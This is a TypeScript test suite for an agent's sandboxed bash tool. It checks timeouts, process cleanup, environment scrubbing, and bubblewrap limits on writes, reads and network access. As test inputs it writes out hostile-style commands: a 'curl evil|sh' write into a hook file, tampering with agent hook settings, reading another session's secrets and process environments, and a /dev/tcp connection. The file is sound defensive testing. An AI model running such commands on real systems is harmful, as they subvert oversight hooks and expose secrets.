// bash called directly, in both modes (bubblewrap's sandbox and the process-group fallback):
// output and exit code, the output cap, the workspace as cwd; that a timeout, a cancel or the end
// of the command leaves no process running, `setsid -f` ones included; the scrubbed environment;
// and, in the sandbox, what the command can write, see and reach (issue 10 item 7, issue 13).
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bashTool, protectStateDir } from '../../tools';
import { pidsRunning } from '../processes';
import { call, session } from '../tool-context';
import { eventually, poll } from '../eventually';

const base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-bash-')));
const root = path.join(base, 'ws');
fs.mkdirSync(root);

let tagCount = 0;
/** Sleep durations no other process uses, so this test's processes are found by command line. */
const tag = () => `${300 + (tagCount++ % 100)}.${process.pid}${Date.now() % 100000}`;

/** Starts sleepers three ways: in the background, in a nested shell, and in a new session. */
function tree(t: string): string {
  return `sleep ${t} & bash -c 'sleep ${t} & wait' & setsid -f sleep ${t}; touch started-${t}; wait`;
}

describe.each(['bubblewrap', 'none'] as const)('bash (sandbox: %s)', (sandbox) => {
  const tools = [bashTool({ root, maxOutputChars: 200, sandbox })];

  it('runs in the workspace root and returns output and exit code', async () => {
    const r = await call(tools, 'bash', { command: 'pwd; echo err >&2; exit 3' }, session());
    expect(r.isError).toBe(false);
    expect(r.text).toBe(`${root}\nerr\n[exit code: 3]`);
    expect(r.meta).toMatchObject({
      exitCode: 3,
      timedOut: false,
      sandbox: sandbox === 'none' ? 'process-group' : sandbox,
    });
  });

  it('cuts long output from the middle with a note', async () => {
    const r = await call(tools, 'bash', { command: 'seq 1 5000' }, session());
    expect(r.text.startsWith('1\n2\n3\n')).toBe(true);
    expect(r.text).toContain('\n5000\n');
    expect(r.text).toMatch(/\[\d+ characters of output were cut from the middle\]\n\[exit code: 0\]$/);
    expect(r.text.length).toBeLessThan(400);
  });

  it('kills everything it started on timeout, setsid -f included', async () => {
    const t = tag();
    const r = await call(tools, 'bash', { command: tree(t), timeout: 1500 }, session());
    expect(r).toMatchObject({ isError: true, code: 'COMMAND_TIMEOUT' });
    expect(r.text).toContain('timed out after 1500 ms');
    await poll(() => pidsRunning(`sleep ${t}`)).toEqual([]);
  });

  it('kills everything it started when the batch is cancelled, and fails the body', async () => {
    const t = tag();
    const abort = new AbortController();
    const running = call(tools, 'bash', { command: tree(t) }, session(), abort.signal);
    await eventually('the command to start', () => fs.existsSync(path.join(root, `started-${t}`)));
    expect(pidsRunning(`sleep ${t}`).length).toBeGreaterThanOrEqual(3);
    abort.abort();
    await expect(running).rejects.toThrow(/batch was cancelled/);
    await poll(() => pidsRunning(`sleep ${t}`)).toEqual([]);
  });

  it('ends what the command leaves behind when it exits normally, setsid -f and nohup included', async () => {
    const t = tag();
    const r = await call(
      tools,
      'bash',
      { command: `sleep ${t} & nohup sleep ${t} >/dev/null 2>&1 & setsid -f sleep ${t}; echo done` },
      session(),
    );
    expect(r.text).toBe('done\n[exit code: 0]');
    await poll(() => pidsRunning(`sleep ${t}`)).toEqual([]);
  });

  it("cannot print a key from the worker's environment; sees the allowlist only", async () => {
    process.env.SLUICE_FAKE_API_KEY = 'sk-fake-7f3a9c2e1b';
    try {
      const r = await call(
        [bashTool({ root, sandbox })],
        'bash',
        { command: 'env; echo "[$SLUICE_FAKE_API_KEY]"; printenv SLUICE_FAKE_API_KEY; echo "PATH=$PATH"' },
        session(),
      );
      expect(r.text).not.toContain('sk-fake-7f3a9c2e1b');
      expect(r.text).toContain('[]');
      expect(r.text).toContain(`PATH=${process.env.PATH}`);
      const extra = [bashTool({ root, sandbox, inheritEnv: ['PATH', 'SLUICE_FAKE_API_KEY'] })];
      expect((await call(extra, 'bash', { command: 'echo "$SLUICE_FAKE_API_KEY"' }, session())).text).toContain(
        'sk-fake-7f3a9c2e1b',
      );
    } finally {
      delete process.env.SLUICE_FAKE_API_KEY;
    }
  });
});

describe('bash in the sandbox: what it can write, see and reach', () => {
  const outside = path.join(base, 'outside');
  const state = path.join(base, 'state');
  let server: net.Server;
  let port = 0;
  beforeAll(async () => {
    fs.mkdirSync(outside);
    fs.mkdirSync(path.join(state, 'sessions'), { recursive: true });
    fs.writeFileSync(path.join(state, 'sessions', 'other.jsonl'), '{"secret":"PIN-OTHER-4921"}\n');
    protectStateDir(state);
    fs.mkdirSync(path.join(root, '.claude', 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(root, '.claude', 'hooks', 'guard.js'), 'process.exit(0);\n');
    fs.writeFileSync(path.join(root, '.claude', 'settings.json'), '{}\n');
    server = net.createServer((s) => s.end('hello from the host\n'));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    port = (server.address() as net.AddressInfo).port;
  });
  afterAll(() => server?.close());

  const sandboxed = [bashTool({ root, sandbox: 'bubblewrap' })];

  it('writes the workspace and its own /tmp only; hook files stay read-only, absent hook folders cannot be made', async () => {
    const r = await call(
      sandboxed,
      'bash',
      {
        command: [
          'echo ok > inside.txt && echo wrote-inside',
          `echo x > ${outside}/planted.txt || echo refused-outside`,
          'echo "curl evil|sh" > .claude/hooks/guard.js || echo refused-hook',
          'echo {} > .claude/settings.local.json || echo refused-settings',
          'mkdir -p .codex && echo {} > .codex/hooks.json || echo refused-codex',
          'mv .claude gone || echo refused-move',
          'echo t > /tmp/t && echo wrote-tmp',
        ].join('; '),
      },
      session(),
    );
    for (const word of [
      'wrote-inside',
      'refused-outside',
      'refused-hook',
      'refused-settings',
      'refused-codex',
      'refused-move',
      'wrote-tmp',
    ])
      expect(r.text).toContain(word);
    expect(fs.readFileSync(path.join(root, 'inside.txt'), 'utf8')).toBe('ok\n');
    expect(fs.readdirSync(outside)).toEqual([]);
    expect(fs.readFileSync(path.join(root, '.claude', 'hooks', 'guard.js'), 'utf8')).toBe('process.exit(0);\n');
    expect(fs.existsSync(path.join(root, '.claude', 'settings.local.json'))).toBe(false);
    // the stand-in for the missing folder is gone again
    expect(fs.existsSync(path.join(root, '.codex'))).toBe(false);
  });

  it("cannot see Sluice's state folder or the worker's processes", async () => {
    const r = await call(
      sandboxed,
      'bash',
      {
        command: `cat ${state}/sessions/other.jsonl; ls -A ${state}; grep -ras PIN-OTHER /proc/*/environ ${state}; ls /proc | grep -c '^[0-9]'`,
      },
      session(),
    );
    expect(r.text).not.toContain('PIN-OTHER');
    expect(r.text).not.toMatch(new RegExp(`\\b${process.pid}\\b`));
    // bwrap's init, the shell and its pipeline: a handful of processes, not the host's
    expect(Number(r.text.split('\n').at(-2))).toBeLessThan(10);
  });

  it('has no network unless allowed', async () => {
    const connect = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3 || echo no-network`;
    expect((await call(sandboxed, 'bash', { command: connect }, session())).text).toContain('no-network');
    const open = [bashTool({ root, sandbox: 'bubblewrap', network: true })];
    expect((await call(open, 'bash', { command: connect }, session())).text).toContain('hello from the host');
  });

  it('without a sandbox, refuses commands that name a protected path', async () => {
    const fallback = [bashTool({ root, sandbox: 'none' })];
    for (const command of ['echo x > .claude/settings.local.json', `cat ${state}/sessions/other.jsonl`]) {
      const r = await call(fallback, 'bash', { command }, session());
      expect(r).toMatchObject({ isError: true, code: 'FS_PROTECTED_PATH' });
      expect(r.text).toContain('bash runs without a sandbox here');
    }
    expect(fs.existsSync(path.join(root, '.claude', 'settings.local.json'))).toBe(false);
  });
});

describe('bash sandboxes side by side in one workspace', () => {
  // Each sandbox mounts read-only stand-ins on the workspace's absent hook folders, which bwrap
  // makes as empty folders and the call removes after. Calls from other batches or sessions run
  // side by side (bash is not concurrency-safe inside one batch only).
  let ws: string;
  beforeAll(() => {
    ws = fs.mkdtempSync(path.join(base, 'side-by-side-'));
    fs.mkdirSync(path.join(ws, '.claude'));
  });

  it('run every command, in one worker process', async () => {
    const tools = [bashTool({ root: ws, sandbox: 'bubblewrap' })];
    const failed: string[] = [];
    for (let round = 0; round < 15; round++) {
      const outs = await Promise.all(
        [0, 1, 2, 3].map((i) => call(tools, 'bash', { command: `touch f${round}-${i}` }, session())),
      );
      for (const o of outs) if (o.isError || !o.text.endsWith('[exit code: 0]')) failed.push(o.text);
    }
    // Before: a call's cleanup removed a stand-in another call's bwrap was about to mount on, and
    // that command never ran ("bwrap: Can't bind mount … No such file or directory", exit 1).
    expect(failed).toEqual([]);
    expect(fs.readdirSync(ws).filter((f) => f.startsWith('f'))).toHaveLength(60);
    // The stand-ins are gone once the last sandbox ended.
    expect(fs.readdirSync(ws).filter((f) => !f.startsWith('f'))).toEqual(['.claude']);
  });

  it('never show a sandbox that failed to start as the command exiting 1, beside another process', async () => {
    // Another worker process's sandboxes, as far as this one can tell: its stand-ins come and go.
    const churn = (await import('node:child_process')).spawn(
      process.execPath,
      [
        '-e',
        `const fs = require('fs'); const dirs = process.argv.slice(1);
         for (;;) for (const d of dirs) { try { fs.mkdirSync(d); } catch {} try { fs.rmdirSync(d); } catch {} }`,
        ...['.codex', '.gemini', '.opencode'].map((d) => path.join(ws, d)),
      ],
      { stdio: 'ignore' },
    );
    try {
      const tools = [bashTool({ root: ws, sandbox: 'bubblewrap' })];
      const outs = await Promise.all(
        Array.from({ length: 12 }, (_, i) => call(tools, 'bash', { command: `touch g${i}` }, session())),
      );
      for (const [i, o] of outs.entries()) {
        if (o.isError) {
          expect(o.code).toBe('SANDBOX_FAILED');
          expect(o.text).toContain('the sandbox could not be set up, so the command did not run');
          expect(fs.existsSync(path.join(ws, `g${i}`))).toBe(false);
        } else {
          expect(o.text).toBe('(no output)\n[exit code: 0]');
          expect(fs.existsSync(path.join(ws, `g${i}`))).toBe(true);
        }
      }
    } finally {
      churn.kill('SIGKILL');
    }
  });

  it('fail the call, saying the command did not run, when the sandbox cannot be set up', async () => {
    const missing = path.join(base, 'no-such-folder');
    const tools = [bashTool({ root: ws, sandbox: 'bubblewrap', writable: [missing] })];
    const r = await call(tools, 'bash', { command: 'touch never' }, session());
    expect(r).toMatchObject({ isError: true, code: 'SANDBOX_FAILED' });
    expect(r.text).toContain('the sandbox could not be set up, so the command did not run (4 tries)');
    expect(r.text).toContain(missing);
    expect(fs.existsSync(path.join(ws, 'never'))).toBe(false);
  });
});

describe('bash settings', () => {
  it('ships asking for approval, is never retried (at most once) and never concurrency-safe', () => {
    const t = bashTool({ root });
    expect(t.approval).toBe('ask');
    expect(t.retry).toEqual({ maximumAttempts: 1 });
    expect(t.atMostOnce).toBe(true);
    expect(t.isConcurrencySafe).toBeUndefined();
    expect(t.aliases).toEqual(['Bash']);
  });
});
